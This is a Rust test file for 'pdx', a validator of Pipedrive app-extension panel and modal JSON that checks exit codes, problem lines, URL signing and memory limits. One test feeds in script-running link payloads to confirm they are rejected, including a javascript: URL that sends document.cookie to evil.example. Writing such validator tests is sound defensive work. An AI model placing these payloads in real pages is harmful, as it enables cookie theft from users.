//! The `pdx` command line, run as a built binary: exit statuses, problem lines, the JSON report.

use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};

const SAMPLES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../tests/fixtures/pipedrive-samples"
);

fn sample(name: &str) -> String {
    format!("{SAMPLES}/{name}")
}

/// Writes `text` to a fresh file under the target directory and returns its path.
fn file(name: &str, text: &str) -> PathBuf {
    static N: AtomicUsize = AtomicUsize::new(0);
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!(
        "cli-{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).expect("create temp dir");
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write temp file");
    path
}

/// One of Pipedrive's sample files, read.
fn sample_json(name: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(sample(name)).expect("read")).expect("json")
}

fn json_file(name: &str, value: &Value) -> PathBuf {
    file(
        name,
        &serde_json::to_string_pretty(value).expect("serialize"),
    )
}

fn pdx<I, S>(args: I) -> Output
where
    I: IntoIterator<Item = S>,
    S: AsRef<std::ffi::OsStr>,
{
    Command::new(env!("CARGO_BIN_EXE_pdx"))
        .args(args)
        .output()
        .expect("run pdx")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn code(o: &Output) -> i32 {
    o.status.code().expect("exit code")
}

fn p(path: &Path) -> String {
    path.display().to_string()
}

#[test]
fn official_panel_structures_are_valid() {
    let o = pdx([
        "validate",
        "panel-structure",
        &sample("app-panel-single-object.json"),
        &sample("app-panel-multiple-object.json"),
        &sample("app-panel-developer-hub.json"),
    ]);
    assert_eq!(
        code(&o),
        0,
        "stdout: {}\nstderr: {}",
        stdout(&o),
        stderr(&o)
    );
    assert_eq!(stdout(&o), "");
    assert!(
        stderr(&o).contains("3 files checked: 3 valid, 0 invalid"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn official_modal_schemas_are_valid() {
    let o = pdx([
        "validate",
        "modal-schema",
        &sample("json-modal.json"),
        &sample("todo-modal.json"),
    ]);
    assert_eq!(
        code(&o),
        0,
        "stdout: {}\nstderr: {}",
        stdout(&o),
        stderr(&o)
    );
    assert_eq!(stdout(&o), "");
}

#[test]
fn bad_panel_structure_gives_one_line_per_problem_and_exit_1() {
    let bad = json_file(
        "panel.json",
        &json!({
            "type": "object",
            "required": ["id", "missing"],
            "properties": {
                "id": { "$ref": "#/definitions/numerical" },
                "status": { "$ref": "#/definitions/colour" }
            }
        }),
    );
    let o = pdx(["validate", "panel-structure", &p(&bad)]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    let prefix = format!("{}: ", p(&bad));
    assert!(lines.iter().all(|l| l.starts_with(&prefix)), "{out}");
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(&format!("{prefix}/required/1: "))),
        "{out}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(&format!("{prefix}/properties/status/$ref: "))),
        "{out}"
    );
    assert!(!out.contains("warning:"), "{out}");
}

#[test]
fn panel_response_is_checked_against_its_structure() {
    let good = json_file(
        "good.json",
        &json!({
            "data": {
                "id": 7, "header": "GTA 22 Blue Auto", "project": "Fleet", "manufacturer": null,
                "delivery_date": "2021-08-31T07:00:00.000Z",
                "status": { "color": "yellow", "label": "Assembling" },
                "delivery_company": "DHL", "tracking": "AB123", "note": "Fragile",
                "extras": ["Tinted windows", "Winter tyres"],
                "delivery_cost": { "code": "EUR", "value": 120.5 }
            }
        }),
    );
    let bad = json_file(
        "bad.json",
        &json!({ "data": { "id": 7, "header": "GTA", "status": { "color": "pink", "label": "Assembling" } } }),
    );
    let structure = sample("app-panel-single-object.json");
    let o = pdx([
        "validate",
        "panel-response",
        "--against",
        &structure,
        &p(&good),
        &p(&bad),
    ]);
    assert_eq!(code(&o), 1, "{}{}", stdout(&o), stderr(&o));
    let out = stdout(&o);
    assert!(
        !out.contains(&p(&good)),
        "the good response has no problem: {out}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with(&format!("{}: /data/status/color: ", p(&bad)))),
        "{out}"
    );
    assert!(
        stderr(&o).contains("2 files checked: 1 valid, 1 invalid"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn warnings_pass_unless_denied() {
    let long = "x".repeat(300);
    let response = json_file(
        "long.json",
        &json!({ "data": { "id": 1, "header": "Order", "note": long } }),
    );
    let structure = sample("app-panel-single-object.json");
    let o = pdx([
        "validate",
        "panel-response",
        "--against",
        &structure,
        &p(&response),
    ]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
    let line = format!("{}: /data/note: warning: ", p(&response));
    assert!(
        stdout(&o).lines().any(|l| l.starts_with(&line)),
        "{}",
        stdout(&o)
    );

    let o = pdx([
        "validate",
        "--deny-warnings",
        "panel-response",
        "--against",
        &structure,
        &p(&response),
    ]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
}

#[test]
fn bad_modal_schema_names_the_offending_option() {
    let mut schema: Value = sample_json("todo-modal.json");
    schema["properties"]["actions"]["properties"]["submit_action"]["options"]["handler"] =
        json!("submit");
    let bad = json_file("modal.json", &schema);
    let o = pdx(["validate", "modal-schema", &p(&bad)]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    let pointer = "/properties/actions/properties/submit_action/options/handler";
    assert!(
        stdout(&o)
            .lines()
            .any(|l| l.starts_with(&format!("{}: {pointer}: ", p(&bad)))),
        "{}",
        stdout(&o)
    );
}

#[test]
fn modal_response_is_merged_into_its_schema_then_checked() {
    let schema = sample("json-modal.json");
    let good = json_file(
        "good.json",
        &json!({ "data": { "blocks": { "block_key_cake_size": { "value": "M" } }, "actions": {} } }),
    );
    // A text block takes no `items`: Pipedrive rejects the merged result.
    let bad = json_file(
        "bad.json",
        &json!({ "data": { "blocks": { "block_key_info": { "items": [] } } } }),
    );
    let o = pdx([
        "validate",
        "modal-response",
        "--against",
        &schema,
        &p(&good),
        &p(&bad),
    ]);
    assert_eq!(code(&o), 1, "{}{}", stdout(&o), stderr(&o));
    let out = stdout(&o);
    assert!(!out.contains(&p(&good)), "{out}");
    assert!(
        out.lines()
            .any(|l| l.starts_with(&format!("{}: /data/blocks/block_key_info", p(&bad)))),
        "{out}"
    );
}

#[test]
fn unreadable_or_non_json_files_exit_2_and_the_rest_is_still_checked() {
    let not_json = file("broken.json", "{ \"type\": ");
    let o = pdx([
        "validate",
        "panel-structure",
        &p(&not_json),
        "/definitely/not/here.json",
        &sample("app-panel-single-object.json"),
    ]);
    assert_eq!(code(&o), 2);
    let err = stderr(&o);
    assert!(
        err.contains(&format!("{}: not JSON: ", p(&not_json))),
        "{err}"
    );
    assert!(
        err.contains("/definitely/not/here.json: cannot read: "),
        "{err}"
    );
    assert!(
        err.contains("3 files checked: 1 valid, 0 invalid, 2 unusable"),
        "{err}"
    );
}

#[test]
fn an_invalid_against_file_is_unusable() {
    let structure = json_file("structure.json", &json!({ "type": "string" }));
    let response = json_file("response.json", &json!({ "data": {} }));
    let o = pdx([
        "validate",
        "panel-response",
        "--against",
        &p(&structure),
        &p(&response),
    ]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("the data structure given with --against is invalid"),
        "{}",
        stderr(&o)
    );
    assert!(
        stderr(&o).contains(&format!("{}: /type: ", p(&structure))),
        "{}",
        stderr(&o)
    );
}

#[test]
fn wrong_arguments_exit_2() {
    assert_eq!(
        code(&pdx(["validate", "panel-response", "x.json"])),
        2,
        "--against is required"
    );
    assert_eq!(code(&pdx(["validate", "panel-structur", "x.json"])), 2);
    assert_eq!(code(&pdx(["validate", "panel-structure"])), 2);
    assert_eq!(
        code(&pdx([
            "validate",
            "--format",
            "yaml",
            "panel-structure",
            "x.json"
        ])),
        2
    );
    assert_eq!(code(&pdx(["frobnicate"])), 2);
}

#[test]
fn help_explains_the_contract() {
    let o = pdx(["--help"]);
    assert_eq!(code(&o), 0);
    assert!(stdout(&o).contains("validate"));
    let o = pdx(["validate", "--help"]);
    assert_eq!(code(&o), 0);
    let help = stdout(&o);
    for needle in [
        "panel-structure",
        "panel-response",
        "modal-schema",
        "modal-response",
        "FILE: /json/pointer: message",
    ] {
        assert!(help.contains(needle), "`{needle}` missing from:\n{help}");
    }
    assert!(
        help.contains("0 every file valid") && help.contains("1 some file invalid"),
        "{help}"
    );
}

#[test]
fn json_format_is_a_machine_readable_report() {
    let bad = json_file(
        "bad.json",
        &json!({ "type": "array", "items": { "type": "object", "properties": { "a": { "$ref": "#/definitions/text" } } } }),
    );
    let o = pdx([
        "validate",
        "--format",
        "json",
        "panel-structure",
        &p(&bad),
        &sample("app-panel-single-object.json"),
    ]);
    assert_eq!(code(&o), 1);
    let report: Value = serde_json::from_str(&stdout(&o)).expect("stdout is one JSON document");
    assert_eq!(report["valid"], json!(false));
    let files = report["files"].as_array().expect("files");
    assert_eq!(files.len(), 2);
    assert_eq!(files[0]["file"], json!(p(&bad)));
    assert_eq!(files[0]["status"], json!("invalid"));
    // A multiple-object panel without a header field.
    let problem = &files[0]["problems"][0];
    assert_eq!(problem["severity"], json!("error"));
    assert!(
        problem["pointer"]
            .as_str()
            .expect("pointer")
            .starts_with("/items"),
        "{problem}"
    );
    assert!(problem["message"].as_str().is_some_and(|m| !m.is_empty()));
    assert_eq!(files[1]["status"], json!("valid"));
    assert_eq!(files[1]["errors"], json!(0));
}

#[test]
fn standard_input_is_read_with_a_dash() {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_pdx"))
        .args(["validate", "modal-schema", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let text = std::fs::read_to_string(sample("todo-modal.json")).expect("read");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(text.as_bytes())
        .expect("write");
    let o = child.wait_with_output().expect("wait");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
}

#[test]
fn sign_prints_a_url_whose_token_verifies_against_its_own_query() {
    let o = pdx([
        "sign",
        "--secret",
        "s3cr3t",
        "--user",
        "123",
        "--company",
        "456",
        "https://app.test/panel?resource=deal",
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let url = stdout(&o).trim().to_owned();
    assert!(url.starts_with("https://app.test/panel?"), "{url}");
    let query = url.split_once('?').map(|(_, q)| q).expect("query");
    let params: Vec<(String, String)> = query
        .split('&')
        .filter_map(|kv| kv.split_once('='))
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
    let get = |k: &str| {
        params
            .iter()
            .find(|(key, _)| key == k)
            .map(|(_, v)| v.clone())
    };
    assert_eq!(
        get("resource").as_deref(),
        Some("deal"),
        "existing parameters are kept"
    );
    assert_eq!(get("userId").as_deref(), Some("123"));
    assert_eq!(get("companyId").as_deref(), Some("456"));
    let token = get("token").expect("token parameter");
    let secret = pdx::auth::JwtSecret::from("s3cr3t");
    let user =
        pdx::auth::verify_token(&token, &secret, Some("123"), Some("456")).expect("token verifies");
    assert_eq!(user.user_id(), "123");
    let wrong = pdx::auth::JwtSecret::from("other");
    assert!(pdx::auth::verify_token(&token, &wrong, Some("123"), Some("456")).is_err());
    assert_eq!(
        code(&pdx(["sign", "--secret", "s", "https://app.test/"])),
        2,
        "--user and --company are required"
    );
}

/// A panel's error state (`{"error": {"title", ...}}`) is checked as the error state, recognised by its shape; with
/// `--status`, a body that does not go with the status is an error.
#[test]
fn panel_error_bodies_are_recognised_and_checked_against_the_status() {
    let structure = sample("app-panel-single-object.json");
    let error = json_file(
        "error.json",
        &json!({ "error": {
            "title": "Subscription expired",
            "subtitle": "Please [renew](https://app.example.com/billing).",
            "action": { "url": "https://app.example.com/billing", "label": "Renew subscription" }
        } }),
    );
    let data = json_file("data.json", &json!({ "data": {} }));
    let run = |status: Option<&str>, file: &Path| {
        let mut args = vec![
            "validate".to_owned(),
            "panel-response".to_owned(),
            "--against".to_owned(),
            structure.clone(),
        ];
        if let Some(status) = status {
            args.extend(["--status".to_owned(), status.to_owned()]);
        }
        args.push(p(file));
        pdx(args)
    };
    for status in [None, Some("400"), Some("401"), Some("503")] {
        let o = run(status, &error);
        assert_eq!(code(&o), 0, "{status:?}: {}{}", stdout(&o), stderr(&o));
        assert_eq!(stdout(&o), "");
    }
    let o = run(Some("200"), &error);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    assert!(
        stdout(&o).starts_with(&format!(
            "{}: /: an error body sent with status 200: Pipedrive shows the error state only for a 4xx or 5xx",
            p(&error)
        )),
        "{}",
        stdout(&o)
    );
    assert_eq!(code(&run(Some("200"), &data)), 0);
    let o = run(Some("500"), &data);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    assert!(
        stdout(&o).contains(&format!(
            "{}: /: status 500 shows the panel's error state",
            p(&data)
        )),
        "{}",
        stdout(&o)
    );
    let o = run(Some("302"), &data);
    assert!(
        stdout(&o).contains("/: status 302: a panel endpoint answers"),
        "{}",
        stdout(&o)
    );
    assert_eq!(code(&run(Some("42"), &data)), 2, "not an HTTP status");
    // An error body is checked as one: a missing title, an unknown key.
    let bad = json_file("bad-error.json", &json!({ "error": { "code": 3 } }));
    let o = run(None, &bad);
    assert_eq!(code(&o), 1);
    let out = stdout(&o);
    assert!(out.contains("/error: missing `title`"), "{out}");
    assert!(out.contains("/error/code: unknown key `code`"), "{out}");
}

/// Links Pipedrive opens in the user's browser are refused when their URL runs code: in panel responses, error
/// states and modal schemas, whatever the case or the whitespace before the scheme.
#[test]
fn links_that_run_code_are_errors() {
    let structure = json_file(
        "structure.json",
        &json!({ "type": "object", "properties": {
            "site": { "$ref": "#/definitions/link", "label": "Site" },
            "note": { "$ref": "#/definitions/text", "label": "Note" }
        } }),
    );
    let response = json_file(
        "response.json",
        &json!({
            "data": {
                "site": " \tJaVaScRiPt:alert(document.cookie)",
                "note": { "markdown": true, "value": "[Open](data:text/html;base64,PHNjcmlwdD4=)" }
            },
            "external_link": { "url": "vbscript:msgbox", "label": "All" },
            "settings": { "url": "https://app.example.com/settings" }
        }),
    );
    let o = pdx([
        "validate",
        "panel-response",
        "--against",
        &p(&structure),
        &p(&response),
    ]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    let out = stdout(&o);
    for (pointer, scheme) in [
        ("/external_link/url", "vbscript"),
        ("/data/site", "javascript"),
        ("/data/note/value", "data"),
    ] {
        assert!(
            out.contains(&format!("{}: {pointer}: a ", p(&response)))
                && out.contains(&format!("`{scheme}:` URL")),
            "{pointer}: {out}"
        );
    }
    assert!(!out.contains("/settings/url"), "{out}");

    let mut schema: Value = sample_json("todo-modal.json");
    let options = &mut schema["properties"]["actions"]["properties"]["submit_action"]["options"];
    options["handler"] = json!("open-url");
    options["url"] = json!("\u{1}javascript:fetch('https://evil.example/'+document.cookie)");
    let modal = json_file("modal.json", &schema);
    let o = pdx(["validate", "modal-schema", &p(&modal)]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    assert!(
        stdout(&o).contains(&format!(
            "{}: /properties/actions/properties/submit_action/options/url: a `javascript:` URL",
            p(&modal)
        )),
        "{}",
        stdout(&o)
    );
}

/// A warning of the `--against` file is printed once, under that file's name, not under each response's.
#[test]
fn warnings_of_the_against_file_are_printed_under_its_name() {
    let mut schema: Value = sample_json("todo-modal.json");
    // `url` with a `request` handler: a warning of the schema itself.
    schema["properties"]["actions"]["properties"]["submit_action"]["options"]["url"] =
        json!("https://app.example.com/save");
    let schema = json_file("schema.json", &schema);
    let one = json_file(
        "one.json",
        &json!({ "data": { "blocks": {}, "actions": {} } }),
    );
    let two = json_file("two.json", &json!({ "data": { "blocks": {} } }));
    let o = pdx([
        "validate",
        "modal-response",
        "--against",
        &p(&schema),
        &p(&one),
        &p(&two),
    ]);
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 1, "{out}");
    assert!(
        lines[0].starts_with(&format!(
            "{}: /properties/actions/properties/submit_action/options/url: warning: `url` is only documented",
            p(&schema)
        )),
        "{out}"
    );
    assert!(
        stderr(&o).contains("2 files checked: 2 valid, 0 invalid; 0 errors, 1 warning"),
        "{}",
        stderr(&o)
    );
    let denied = pdx([
        "validate",
        "--deny-warnings",
        "modal-response",
        "--against",
        &p(&schema),
        &p(&one),
    ]);
    assert_eq!(code(&denied), 1);

    // The same for a data structure: a field label not in sentence case.
    let structure = json_file(
        "structure.json",
        &json!({ "type": "object", "properties": { "due": { "$ref": "#/definitions/date", "label": "Due Date" } } }),
    );
    let response = json_file("response.json", &json!({ "data": { "due": "2024-02-29" } }));
    let o = pdx([
        "validate",
        "--format",
        "json",
        "panel-response",
        "--against",
        &p(&structure),
        &p(&response),
    ]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
    let report: Value = serde_json::from_str(&stdout(&o)).expect("one JSON report");
    assert_eq!(report["against"]["file"], json!(p(&structure)));
    assert_eq!(report["against"]["warnings"], json!(1));
    assert_eq!(
        report["against"]["problems"][0]["pointer"],
        json!("/properties/due/label")
    );
    assert_eq!(report["files"][0]["problems"], json!([]));
}

/// A modal of buttons only (a confirmation dialog, as the component library shows its buttons) is accepted.
#[test]
fn a_modal_of_buttons_only_is_valid() {
    let modal = json_file(
        "confirm.json",
        &json!({ "type": "object", "properties": { "actions": { "type": "object", "properties": {
            "cancel": { "$ref": "#/definitions/action-secondary", "options": { "label": "Cancel", "handler": "cancel" } },
            "ok": { "$ref": "#/definitions/action-primary", "options": { "label": "Delete", "handler": "request" } }
        } } } }),
    );
    let o = pdx(["validate", "modal-schema", &p(&modal)]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
    assert_eq!(stdout(&o), "");
}

/// A schema whose 200,000 select items each carry an invalid `visibleOn` is checked in bounded memory: the
/// binary runs under a 1 GB address-space limit, reports the first problems and counts the rest.
#[test]
fn two_hundred_thousand_invalid_items_are_checked_under_one_gigabyte() {
    const ITEMS: usize = 200_000;
    let mut text = String::with_capacity(ITEMS * 64);
    text.push_str(
        r##"{"type":"object","properties":{"blocks":{"type":"object","properties":{"s":{"$ref":"#/definitions/element-select","options":{"label":"S","items":["##,
    );
    for i in 0..ITEMS {
        if i > 0 {
            text.push(',');
        }
        text.push_str(&format!(
            r#"{{"label":"Item {i}","value":{i},"visibleOn":{{"s":{{"between":[1,2]}}}}}}"#
        ));
    }
    text.push_str(
        r##"]}}}},"actions":{"type":"object","properties":{"ok":{"$ref":"#/definitions/action-primary","options":{"label":"Ok","handler":"request"}}}}}}"##,
    );
    let schema = file("huge.json", &text);
    let o = Command::new("sh")
        .args([
            "-c",
            r#"ulimit -v 1048576; exec "$PDX" validate --format json modal-schema "$FILE""#,
        ])
        .env("PDX", env!("CARGO_BIN_EXE_pdx"))
        .env("FILE", &schema)
        .output()
        .expect("run pdx under a memory limit");
    assert_eq!(
        o.status.code(),
        Some(1),
        "pdx did not finish under 1 GB ({}): {}",
        o.status,
        stderr(&o)
    );
    let report: Value = serde_json::from_str(&stdout(&o)).expect("one JSON report");
    let problems = report["files"][0]["problems"].as_array().expect("problems");
    assert_eq!(problems.len(), 101, "the cap, then the count of the rest");
    assert_eq!(
        problems[0]["pointer"],
        json!("/properties/blocks/properties/s/options/items/0/visibleOn")
    );
    let counted = problems[100]["message"].as_str().unwrap_or_default();
    assert_eq!(
        counted,
        format!(
            "… and {} more problems (pdx reports the first 100)",
            ITEMS - 100
        )
    );
}

/// Each subcommand's help names the Pipedrive page of its format.
#[test]
fn help_cites_pipedrive_pages() {
    for (sub, page) in [
        (
            "panel-structure",
            "https://pipedrive.readme.io/docs/app-extensions-json-panels",
        ),
        (
            "panel-response",
            "https://pipedrive.readme.io/docs/app-extensions-json-panels",
        ),
        (
            "modal-schema",
            "https://pipedrive.readme.io/docs/json-modals-component-library",
        ),
        (
            "modal-response",
            "https://pipedrive.readme.io/docs/json-modals-user-interaction-handling",
        ),
    ] {
        let o = pdx(["validate", sub, "--help"]);
        assert_eq!(code(&o), 0);
        assert!(stdout(&o).contains(page), "{sub}: {}", stdout(&o));
    }
    assert!(stdout(&pdx(["validate", "panel-response", "--help"])).contains("--status <CODE>"));
}
